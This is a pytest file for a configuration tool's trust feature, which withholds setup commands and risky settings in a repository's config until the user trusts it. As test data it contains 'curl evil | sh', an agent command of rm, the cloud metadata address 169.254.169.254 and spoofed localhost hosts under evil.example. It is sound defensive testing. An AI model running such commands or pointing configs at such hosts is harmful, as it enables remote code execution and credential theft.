import json
import stat

import pytest

from fleet.config import trust
from fleet.config.commands.set import SettingFiles, apply, parsed
from fleet.config.keys.table import KEYS, PROJECT

SETUP = "workspace: {setup: [make deps]}\nteam: red\n"


def test_a_repositorys_commands_do_not_count_until_they_are_trusted(world):
    loaded = world.fleet(SETUP).load()
    assert loaded.settings.workspace.setup == ()
    assert loaded.settings.team == "red"
    assert not loaded.trusted
    assert loaded.warnings == (
        (
            "fleet.yaml: not trusted, so without effect: workspace.setup. "
            "Read it, then run `fleet trust`."
        ),
    )
    assert str(loaded.origins["workspace.setup"]) == "default (fleet.yaml:1 is untrusted)"


def test_trusted_commands_count(world):
    loaded = world.fleet(SETUP).trust().load()
    assert (loaded.settings.workspace.setup, loaded.warnings) == (("make deps",), ())
    assert loaded.origins["workspace.setup"].layer == PROJECT


def test_it_is_asked_again_when_one_of_them_changes(world):
    world.fleet(SETUP).trust()
    world.fleet(SETUP.replace("make deps", "curl evil | sh"))
    assert world.load().settings.workspace.setup == ()


def test_it_is_not_asked_again_when_something_else_changes(world):
    world.fleet(SETUP).trust()
    world.fleet("# a comment\n" + SETUP.replace("red", "blue"))
    assert world.load().settings.workspace.setup == ("make deps",)


def test_trust_is_for_one_file(world, tmp_path):
    world.fleet(SETUP).trust()
    other = tmp_path / "other.yaml"
    other.write_text(SETUP)
    assert world.load(config_file=other).settings.workspace.setup == ()


def test_trust_can_be_taken_back(world):
    world.fleet(SETUP).trust()
    assert trust.revoke(world.home, world.file)
    assert world.load().settings.workspace.setup == ()
    assert not trust.revoke(world.home, world.file)


def test_your_own_file_needs_no_trust(world):
    world.user("workspace: {setup: [make deps]}\nagents: {claude: {permissions: full}}\n")
    loaded = world.load()
    assert loaded.settings.workspace.setup == ("make deps",)
    assert loaded.fleet.agent("claude").permissions == "full"


def test_the_record_is_private(world):
    world.fleet(SETUP).trust()
    assert stat.S_IMODE((world.home / trust.FILE).stat().st_mode) == 0o600


@pytest.mark.parametrize("damage", ["", "[]", "{", '{"fleet": 9, "files": {}}', '{"fleet": 1}'])
def test_a_damaged_record_trusts_nothing_and_says_so(world, damage):
    world.fleet(SETUP).trust()
    (world.home / trust.FILE).write_text(damage)
    loaded = world.load()
    assert loaded.settings.workspace.setup == ()
    assert "cannot be read, so nothing is trusted" in loaded.warnings[0]


WITHHELD = {
    "workspace: {root: /etc}": "workspace.root",
    "store: {url: 'postgresql://elsewhere/d'}": "store.url",
    "gateway: {host: 0.0.0.0}": "project.gateway.host",
    "gateway: {master_key_env: AWS_SECRET}": "project.gateway.master_key_env",
    "project: {observability: {otlp: http://x:1}}": "project.observability.otlp",
    "nodes: {n: {endpoint: http://h:1, wake_on_lan: 'aa:bb:cc:dd:ee:ff'}}": "nodes.n.wake_on_lan",
    "agents: {a: {coder: claude, permissions: full}}": "agents.a.permissions",
    "agents: {a: {coder: claude, extra_args: [--yolo]}}": "agents.a.extra_args",
    "agents: {a: {coder: command, command: [rm]}}": "agents.a.command",
    "nodes: {n: {endpoint: 'http://h:1', api_key: os.environ/AWS}}": "nodes.n.api_key",
    "mcp_servers: {m: {command: evil}}": "mcp_servers.m.command",
    "nodes: {n: {endpoint: 'http://192.168.1.9:11434'}}": "nodes.n.endpoint",
    "nodes: {n: {endpoint: 'http://169.254.169.254', kind: openai}}": "nodes.n.endpoint",
    "nodes: {n: {endpoint: 'http://127.0.0.1.evil.example:1'}}": "nodes.n.endpoint",
    "nodes: {n: {endpoint: 'http://localhost.evil.example'}}": "nodes.n.endpoint",
    "nodes: {n: {kind: openrouter}}": "nodes.n.kind",
    "nodes: {n: {kind: openai}}": "nodes.n.kind",
    "nodes: {n: {kind: hosted, provider: bedrock}}": "nodes.n.provider",
}


@pytest.mark.parametrize("text", WITHHELD)
def test_it_is_withheld_when_a_repository_says(world, text):
    loaded = world.fleet(text + "\n").load()
    assert WITHHELD[text] in loaded.warnings[0]
    assert "mcp_servers" not in text or dict(loaded.fleet.mcp_servers) == {}
    assert all(node.endpoint == "" and not node.trusted for node in loaded.fleet.nodes.values())


HARMLESS = [
    "workspace: {setup: []}",
    "gateway: {host: 127.0.0.1, port: 4001}",
    "agents: {a: {coder: claude, permissions: read, tools: [Read]}}",
    "project: {observability: {otlp: ''}}",
    "nodes: {n: {endpoint: 'http://127.0.0.1:11434'}}",
    "nodes: {n: {endpoint: 'https://localhost/v1', kind: openai}}",
    "nodes: {n: {endpoint: 'http://[::1]:8080', kind: llamacpp}}",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_no_trust_is_needed_when_a_repository_says(world, text):
    assert world.fleet(text + "\n").load().trusted


def test_a_repository_cannot_redirect_a_node_that_has_your_key(world):
    world.user("nodes: {api: {kind: openai, api_key: os.environ/MY_KEY}}\n")
    loaded = world.fleet("nodes: {api: {endpoint: 'https://elsewhere.example'}}\n").load()
    assert loaded.fleet.nodes["api"].endpoint == "https://api.openai.com/v1"
    assert "nodes.api.endpoint" in loaded.warnings[0]


def test_a_trusted_address_counts_and_a_changed_one_is_asked_about_again(world):
    text = "nodes: {n: {endpoint: 'http://gpu:11434'}}\n"
    assert world.fleet(text).trust().load().fleet.nodes["n"].endpoint == "http://gpu:11434"
    assert world.fleet(text.replace("gpu", "evil")).load().fleet.nodes["n"].endpoint == ""


def test_a_repository_cannot_move_a_node_of_your_own(world):
    world.user("nodes: {gpu: {endpoint: 'http://gpu:11434'}}\n")
    loaded = world.fleet("nodes: {gpu: {endpoint: 'http://evil:11434'}}\n").load()
    assert loaded.fleet.nodes["gpu"].endpoint == "http://gpu:11434"


def test_swapping_names_around_the_dots_is_a_change(world):
    world.fleet("mcp_servers: {x: {command: a, env: {command: evil}}}\n").trust()
    world.fleet("mcp_servers: {x: {command: a}, x.env: {command: evil}}\n")
    assert not world.load().trusted


def test_what_is_not_trusted_is_checked_all_the_same(world):
    world.fleet("mcp_servers: {m: {args: [x]}}\n")
    assert "mcp_servers.m: has no `command`" in world.refuse()


def test_what_you_set_yourself_in_a_trusted_file_stays_trusted(world):
    world.fleet(SETUP).trust()
    context = SettingFiles(world.project, world.home, world.env)
    change = parsed('workspace.setup=["make all"]')
    loaded = apply([change], file=world.file, layer=PROJECT, context=context)
    assert loaded.settings.workspace.setup == ("make all",)


def test_what_you_set_yourself_does_not_trust_what_others_wrote(world):
    world.fleet(SETUP)
    context = SettingFiles(world.project, world.home, world.env)
    apply([parsed("store.url=sqlite:///x.db")], file=world.file, layer=PROJECT, context=context)
    assert not world.load().trusted
    assert not (world.home / trust.FILE).exists()


def test_the_record_names_the_settings_and_not_their_values(world):
    world.fleet(SETUP).trust()
    record = json.loads((world.home / trust.FILE).read_text())
    assert record["files"][str(world.file)]["settings"] == ["workspace.setup"]
    assert "make deps" not in json.dumps(record)


def test_only_settings_that_a_project_may_set_need_trust():
    assert all(PROJECT in key.layers for key in KEYS if key.trust)
